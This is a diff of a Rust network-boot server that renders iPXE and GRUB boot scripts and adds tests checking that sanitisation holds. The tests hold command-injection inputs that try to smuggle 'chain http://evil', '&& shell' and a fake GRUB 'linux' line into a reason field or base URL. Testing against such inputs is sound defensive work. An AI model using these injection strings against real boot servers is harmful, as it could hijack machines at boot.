@@ -99,23 +99,43 @@ impl BootScript {
     /// Renders the script for `loader`; `base` is the server URL as the client reaches it
     /// (`http://10.99.0.1:8080`).
     pub fn render(&self, loader: Loader, base: &str) -> String {
-        match loader {
-            Loader::Ipxe => super::ipxe::render(self, base),
-            Loader::Grub => super::grub::render(self, base),
+        use super::{grub, ipxe};
+        let mac = match loader {
+            Loader::Ipxe => "${netX/mac}",
+            Loader::Grub => "$net_default_mac",
+        };
+        match (self, loader) {
+            (
+                BootScript::BootEnv {
+                    reason,
+                    task,
+                    credential,
+                },
+                _,
+            ) => {
+                let cmdline = BootScript::cmdline(base, mac, *task, credential.as_ref());
+                match loader {
+                    Loader::Ipxe => ipxe::bootenv(base, reason, &cmdline),
+                    Loader::Grub => grub::bootenv(reason, &cmdline),
+                }
+            }
+            // iPXE cannot start a loader from a local disk's ESP: on UEFI it hands back to
+            // the firmware, whatever the hand-off (the Secure Boot chain's GRUB can)
+            (BootScript::LocalDisk { uefi, .. }, Loader::Ipxe) => ipxe::local(*uefi),
+            (BootScript::LocalDisk { handoff, .. }, Loader::Grub) => {
+                grub::local(*handoff == Handoff::Chain)
+            }
+            (BootScript::Unavailable { reason }, Loader::Ipxe) => ipxe::unavailable(reason),
+            (BootScript::Unavailable { reason }, Loader::Grub) => grub::unavailable(reason),
         }
     }
 
     /// The kernel command line of the boot environment, `mac` being how the loader names the
     /// boot interface's MAC (`${netX/mac}` in iPXE, `$net_default_mac` in GRUB).
-    pub(super) fn cmdline(
-        base: &str,
-        mac: &str,
-        task: Option<i64>,
-        cred: Option<&Secret>,
-    ) -> String {
+    fn cmdline(base: &str, mac: &str, task: Option<i64>, cred: Option<&Secret>) -> String {
         let mut cmdline = format!(
             "console=ttyS0,115200n8 console=tty0 bootcast.server={} bootcast.mac={mac}",
-            url_text(base)
+            super::template::url_text(base)
         );
         if let Some(t) = task {
             cmdline.push_str(&format!(" bootcast.task={t}"));
@@ -159,55 +179,6 @@ pub fn set_key(script: &str, keys: &crate::sign::Keys) -> String {
         }
         out.push_str(nl);
     }
-    out
-}
-
-/// Text safe inside an iPXE `echo` or a double-quoted GRUB string: letters, digits and a few
-/// punctuation marks; anything either would interpret (`$`, `&&`, `||`, `#`, `;`, quotes,
-/// backslashes, newlines, `=`) becomes a space.
-pub(super) fn plain_text(s: &str) -> String {
-    s.chars()
-        .map(|c| {
-            if c.is_ascii_alphanumeric() || " .,:()/_-`'".contains(c) {
-                c
-            } else {
-                ' '
-            }
-        })
-        .collect()
-}
-
-/// A URL safe in a script: only URL characters (no spaces, `$`, `&`, `|`, `;`, quotes).
-pub(super) fn url_text(s: &str) -> String {
-    s.chars()
-        .filter(|c| c.is_ascii_alphanumeric() || ":/.-_[]%".contains(*c))
-        .collect()
-}
-
-/// Replaces each `{{name}}` in one pass over the template, so a value can never introduce a
-/// placeholder of its own. Values must already be safe (see [`plain_text`], [`url_text`]).
-pub(super) fn fill(template: &str, vars: &[(&str, &str)]) -> String {
-    let mut out = String::with_capacity(template.len() + 256);
-    let mut rest = template;
-    while let Some(start) = rest.find("{{") {
-        out.push_str(&rest[..start]);
-        let after = &rest[start + 2..];
-        match after.find("}}") {
-            Some(end) => {
-                let name = &after[..end];
-                match vars.iter().find(|(n, _)| *n == name) {
-                    Some((_, v)) => out.push_str(v),
-                    None => panic!("template placeholder {{{{{name}}}}} has no value"),
-                }
-                rest = &after[end + 2..];
-            }
-            None => {
-                out.push_str(&rest[start..]);
-                rest = "";
-            }
-        }
-    }
-    out.push_str(rest);
     out
 }
 
@@ -297,5 +268,131 @@ mod tests {
             g.starts_with(" bootcast.task=42 bootcast.credential=00ff"),
             "{g}"
         );
+    }
+
+    #[test]
+    fn ipxe_scripts_render_without_placeholders() {
+        let base = "http://10.99.0.1:8080";
+        let chain = crate::boot::ipxe::chain_script(base);
+        assert!(chain.starts_with("#!ipxe\n"));
+        assert!(chain
+            .contains("chain http://10.99.0.1:8080/boot/${netX/mac}.ipxe?platform=${platform}"));
+        let env = BootScript::BootEnv {
+            reason: "registering".into(),
+            task: Some(42),
+            credential: Some(Secret("00ff".into())),
+        }
+        .render(Loader::Ipxe, base);
+        assert!(
+            env.contains(" bootcast.credential=00ff || goto failed\n"),
+            "{env}"
+        );
+        let plan = BootScript::BootEnv {
+            reason: "registering".into(),
+            task: None,
+            credential: Some(Secret("00ff".into())),
+        };
+        assert!(!format!("{plan:?}").contains("00ff"), "{plan:?}");
+        assert!(env.contains("kernel http://10.99.0.1:8080/bootenv/vmlinuz initrd=initrd.img "));
+        assert!(env.contains(
+            " bootcast.server=http://10.99.0.1:8080 bootcast.mac=${netX/mac} bootcast.task=42"
+        ));
+        assert!(env.contains("initrd http://10.99.0.1:8080/bootenv/initrd.img"));
+        assert!(BootScript::LocalDisk {
+            uefi: false,
+            handoff: Handoff::Chain
+        }
+        .render(Loader::Ipxe, base)
+        .contains("sanboot --no-describe --drive 0x80"));
+        assert!(BootScript::LocalDisk {
+            uefi: true,
+            handoff: Handoff::Chain
+        }
+        .render(Loader::Ipxe, base)
+        .contains("\nexit 1"));
+        let un = BootScript::Unavailable {
+            reason: "x\nchain http://evil ${y} && chain http://e2 || shell {{base}} #".into(),
+        }
+        .render(Loader::Ipxe, base);
+        assert!(!un.contains("\nchain"), "{un}");
+        assert!(!un.contains("${y}"));
+        let echo = un
+            .lines()
+            .find(|l| l.starts_with("echo bootcast: x"))
+            .unwrap();
+        assert!(
+            !echo.contains("&&")
+                && !echo.contains("||")
+                && !echo.contains('#')
+                && !echo.contains('$'),
+            "{echo}"
+        );
+        assert!(!un.contains("{{") && !un.contains(base), "{un}");
+        // a base URL cannot smuggle commands either
+        let c = crate::boot::ipxe::chain_script("http://h:1 && shell");
+        assert!(c.contains("chain http://h:1shell/boot/"), "{c}");
+        for s in [chain, env, un] {
+            assert!(s.starts_with("#!ipxe\n"));
+            assert!(!s.contains("{{"), "{s}");
+        }
+    }
+
+    #[test]
+    fn grub_configurations_render_without_placeholders_and_nothing_smuggled() {
+        let base = "http://10.99.0.1:8080";
+        let env = BootScript::BootEnv {
+            reason: "task 7 (reimage)".into(),
+            task: Some(7),
+            credential: Some(Secret("00ff".into())),
+        }
+        .render(Loader::Grub, base);
+        assert!(env.contains("\nif linux (tftp,$net_default_server)/bootenv/vmlinuz console="));
+        assert!(
+            env.contains("\n  if initrd (tftp,$net_default_server)/bootenv/initrd.img ; then\n")
+        );
+        assert!(
+            env.contains("echo \"bootcast: task 7 (reimage)\"\n"),
+            "{env}"
+        );
+        let chain = BootScript::LocalDisk {
+            uefi: true,
+            handoff: Handoff::Chain,
+        }
+        .render(Loader::Grub, base);
+        let order = chain.find("/EFI/Microsoft/Boot/bootmgfw.efi /EFI/debian/shimx64.efi");
+        let last = chain.find(" /EFI/BOOT/BOOTX64.EFI ; do\n");
+        assert!(order.is_some() && last > order, "{chain}");
+        assert!(chain.contains("chainloader ($bootcast_esp)$bootcast_loader\n"));
+        let exit = BootScript::LocalDisk {
+            uefi: true,
+            handoff: Handoff::Exit,
+        }
+        .render(Loader::Grub, base);
+        assert!(
+            exit.ends_with("\nexit\n") && !exit.contains("chainloader"),
+            "{exit}"
+        );
+        let un = BootScript::Unavailable {
+            reason: "x\"; linux (tftp)/evil $y \\\n{{reason}} #".into(),
+        }
+        .render(Loader::Grub, base);
+        let echo = un
+            .lines()
+            .find(|l| l.starts_with("echo \"bootcast: x"))
+            .unwrap();
+        // one quoted string, with nothing GRUB would read as a command, variable or escape
+        let inner = echo
+            .strip_prefix("echo \"")
+            .unwrap()
+            .strip_suffix('"')
+            .unwrap();
+        assert!(
+            !inner.contains(['"', ';', '$', '\\', '#', '{', '}', '\n']),
+            "{echo}"
+        );
+        assert!(!un.contains("\nlinux"), "{un}");
+        for s in [env, chain, exit, un] {
+            assert!(!s.contains("{{"), "{s}");
+        }
     }
 }
